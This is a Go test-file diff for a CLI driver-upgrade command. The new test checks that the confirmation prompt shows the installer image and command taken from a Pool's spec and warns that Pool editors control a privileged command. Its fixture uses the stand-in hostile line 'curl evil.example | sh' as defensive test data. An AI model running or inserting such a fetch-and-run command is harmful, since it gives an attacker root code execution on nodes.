@@ -123,7 +123,7 @@ func TestDriverDryRunPrintsTheWavesAndCreatesNothing(t *testing.T) {
 	res := kittest.Run(f, NewCmdUpgrade, "", "driver", "--pool", "p", "--version", target, "--installer-image", "inst:1",
 		"--canary", "p-3", "--max-unavailable", "2", "--dry-run=client")
 	require.NoError(t, res.Err, res.ErrOut)
-	assert.Contains(t, res.Out, "would upgrade 3 node(s) to 24.1.0.3 with installer inst:1 (max unavailable 2):\n  wave 1: p-3\n  wave 2: p-1, p-2\n(dry run: nothing changed)\n")
+	assert.Contains(t, res.Out, "would upgrade 3 node(s) to 24.1.0.3 with installer inst:1 running its image's entrypoint (max unavailable 2):\n  wave 1: p-3\n  wave 2: p-1, p-2\n(dry run: nothing changed)\n")
 	var list v1alpha1.DriverRolloutList
 	require.NoError(t, c.List(context.Background(), &list))
 	assert.Empty(t, list.Items)
@@ -239,4 +239,29 @@ func TestDriverForceCarriesTheOverrideToTheWebhook(t *testing.T) {
 		"--controller-timeout", "0s", "--wait=false", "--yes", "--force")
 	require.NoError(t, res.Err, res.ErrOut)
 	assert.Empty(t, getRollout(t, c2, rolloutName).Annotations, "nothing to override")
+}
+
+// Issue 28 item 5: without --installer-image and -- COMMAND, the installer comes from
+// the Pool's spec.upgrade, which a Pool editor writes. The confirmation shows the image
+// and the command and says where they come from.
+func TestDriverConfirmationShowsThePoolsInstallerImageAndCommand(t *testing.T) {
+	pool := &v1alpha1.Pool{ObjectMeta: metav1.ObjectMeta{Name: "p"}, Spec: v1alpha1.PoolSpec{Type: v1alpha1.PoolTypeDevelopment,
+		Upgrade: &v1alpha1.UpgradeSpec{InstallerImage: "inst:1", InstallerCommand: []string{"/bin/sh", "-c", "curl evil.example | sh"}}}}
+	f, c := setup(t, nil, pool, poolNode("p-1", "p"))
+	res := kittest.Run(f, NewCmdUpgrade, "no\n", "driver", "--pool", "p", "--version", target, "--controller-timeout", "0s", "--wait=false")
+	require.Error(t, res.Err)
+	assert.Contains(t, res.ErrOut, `Risk: high: driver upgrade to 24.1.0.3
+  Impact: 1 node(s) of pool p will be cordoned, drained and have the driver reinstalled by installer inst:1 running "/bin/sh -c curl evil.example | sh", at most 1 unavailable at a time; workload pods still running after 10m0s are evicted
+  Precaution: make sure running jobs checkpoint or can restart, and that the installer image fits the nodes' OS
+  Precaution: the installer image and command come from pool p's spec.upgrade, written by whoever may edit that Pool: it runs privileged with the host's root on every node upgraded; give --installer-image and -- COMMAND to choose them yourself
+Type "yes" to confirm: `)
+	var list v1alpha1.DriverRolloutList
+	require.NoError(t, c.List(context.Background(), &list))
+	assert.Empty(t, list.Items, "not confirmed: nothing created")
+
+	// Both given on the command line: nothing comes from the Pool, and it says nothing.
+	res = kittest.Run(f, NewCmdUpgrade, "no\n", "driver", "--pool", "p", "--version", target, "--installer-image", "inst:2", "--", "/install.sh")
+	require.Error(t, res.Err)
+	assert.Contains(t, res.ErrOut, `reinstalled by installer inst:2 running "/install.sh", at most 1`)
+	assert.NotContains(t, res.ErrOut, "spec.upgrade")
 }
